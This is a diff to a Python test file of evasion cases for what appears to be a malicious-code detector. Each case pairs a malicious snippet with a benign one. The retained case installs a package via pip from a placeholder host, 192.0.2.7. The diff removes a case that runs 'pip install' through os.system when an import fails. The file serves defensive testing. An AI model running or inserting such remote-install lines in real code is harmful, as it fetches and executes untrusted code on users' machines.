@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from pratique.verdict import Verdict
-from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, evasion
+from tests.evasions.sample import MALICIOUS, Evasion, evasion
 
 _URL = "'http://192.0.2.7/a'"
 
@@ -233,11 +233,5 @@ CASES = (
         "pip in another process",
         "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://192.0.2.7/a.whl'])\n",
         "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'compileall', '.'])\n",
-    ),
-    evasion(
-        "missing dependency fetched when it is imported",
-        "try:\n    import helper_pkg\nexcept ImportError:\n    import os\n    os.system('pip install helper_pkg')\n    import helper_pkg\n",
-        "try:\n    import helper_pkg\nexcept ImportError:\n    helper_pkg = None\n",
-        SUSPICIOUS,
     ),
 )
